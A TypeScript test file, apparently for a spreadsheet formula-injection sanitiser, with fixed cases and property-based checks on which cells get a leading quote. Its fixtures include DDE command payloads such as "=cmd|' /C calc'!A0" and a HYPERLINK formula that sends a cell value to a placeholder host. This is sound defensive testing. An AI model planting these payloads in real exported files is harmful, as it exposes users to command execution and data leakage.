import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { looksLikeSpreadsheetFormula, neutraliseSpreadsheetFormula } from './formula-injection';

describe('neutraliseSpreadsheetFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("http://example.invalid/?"&A1,"Abrir")',
      `'=HYPERLINK("http://example.invalid/?"&A1,"Abrir")`,
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
    ["-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-1|2', "'-1|2"],
    ['+A1', "'+A1"],
    ['-1:1', "'-1:1"],
    ['-2+3', "'-2+3"],
    ['+447700900123 es el número nuevo', "'+447700900123 es el número nuevo"],
    ['- lista de la compra', "'- lista de la compra"],
    ['\t=1+1', "'\t=1+1"],
    ['\tHola', "'\tHola"],
    ['\r\nHola', "'\r\nHola"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
  ])('prefixes %j, which a spreadsheet would evaluate', (cell, expected) => {
    expect(neutraliseSpreadsheetFormula(cell)).toBe(expected);
    expect(looksLikeSpreadsheetFormula(cell)).toBe(true);
  });

  it.each([['  =1+1'], ['\n=1+1'], ['\u00A0@SUM(A1)']])(
    'prefixes %j: importers may trim the leading whitespace before evaluating',
    (cell) => {
      expect(neutraliseSpreadsheetFormula(cell)).toBe(`'${cell}`);
    },
  );

  it.each([
    ['+44 7700 900123'],
    ['+447700900123'],
    ['+34 600 000 000'],
    ['+1 (555) 010-0199'],
    ['+44 (0)20 7946 0018'],
    [' +44 7700 900123'],
    ['-12'],
    ['-12.5'],
    ['-12,5'],
    ['-1.234,56'],
    [' -3'],
  ])('leaves the number or phone number %j byte-identical: there is nothing in it to run', (cell) => {
    expect(neutraliseSpreadsheetFormula(cell)).toBe(cell);
    expect(looksLikeSpreadsheetFormula(cell)).toBe(false);
  });

  it.each([
    [''],
    ['Hola, ¿qué tal?'],
    ['07700 900123'],
    ['(020) 7946 0018'],
    ['|cmd'],
    ['12/03/2023 14:05'],
    ['a=b'],
    ["'=1+1"],
    ['\u200E=1+1'],
    ['مرحبا'],
  ])('leaves %j unchanged', (cell) => {
    expect(neutraliseSpreadsheetFormula(cell)).toBe(cell);
  });

  it('never removes or alters text: the output is the input, possibly after one quote', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (cell) => {
        const result = neutraliseSpreadsheetFormula(cell);
        expect(result === cell || result === `'${cell}`).toBe(true);
      }),
    );
  });

  // Whitespace an importer may trim before it looks at the first character.
  const space = fc.string({
    maxLength: 3,
    unit: fc.constantFrom(' ', '\n', '\u00A0', '\u2007', '\u202F', '\uFEFF', '\u3000', '\u2028'),
  });

  it('never changes a cell of digits, spaces and phone punctuation, with or without a leading +', () => {
    const phoneText = fc.string({ unit: fc.constantFrom(...'0123456789 ().,/-') });
    fc.assert(
      fc.property(
        fc.constantFrom('', ' ', '  '),
        fc.constantFrom('', '+', '-'),
        phoneText,
        (lead, sign, rest) => {
          const cell = `${lead}${sign}${rest}`;
          expect(neutraliseSpreadsheetFormula(cell)).toBe(cell);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('never lets through a cell that starts a formula with a function call or a DDE `|`', () => {
    const trigger = fc.constantFrom('=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20');
    // What may sit between the trigger and the call: nothing, a number, an operator, a bracket.
    const before = fc.string({ maxLength: 4, unit: fc.constantFrom(...'0123456789 +-*/&(') });
    const name = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.]{0,11}$/);
    const call = fc.oneof(
      name.map((function_) => `${function_}(`),
      name.map((server) => `${server}|`),
      fc.constant('|'),
    );
    fc.assert(
      fc.property(space, trigger, before, call, fc.string(), (leading, first, between, payload, rest) => {
        const cell = `${leading}${first}${between}${payload}${rest}`;
        expect(neutraliseSpreadsheetFormula(cell)).toBe(`'${cell}`);
      }),
      { numRuns: 500 },
    );
  });

  it('prefixes every cell starting with = or @ (or a fullwidth trigger), tab or carriage return', () => {
    const trigger = fc.constantFrom('=', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20');
    fc.assert(
      fc.property(space, trigger, fc.string(), (leading, first, rest) => {
        const cell = `${leading}${first}${rest}`;
        expect(neutraliseSpreadsheetFormula(cell)).toBe(`'${cell}`);
      }),
    );
    fc.assert(
      fc.property(fc.constantFrom('\t', '\r'), fc.string(), (first, rest) => {
        expect(neutraliseSpreadsheetFormula(`${first}${rest}`)).toBe(`'${first}${rest}`);
      }),
    );
  });

  it('prefixes a cell starting with + or - whenever a letter follows: it could name a function or a cell', () => {
    fc.assert(
      fc.property(
        space,
        fc.constantFrom('+', '-'),
        fc.string(),
        fc.stringMatching(/^[A-Za-z]$/),
        fc.string(),
        (leading, sign, before, letter, after) => {
          const cell = `${leading}${sign}${before}${letter}${after}`;
          expect(neutraliseSpreadsheetFormula(cell)).toBe(`'${cell}`);
        },
      ),
    );
  });

  it('is idempotent on its own output', () => {
    fc.assert(
      fc.property(fc.string(), (cell) => {
        const once = neutraliseSpreadsheetFormula(cell);
        expect(neutraliseSpreadsheetFormula(once)).toBe(once);
      }),
    );
  });
});
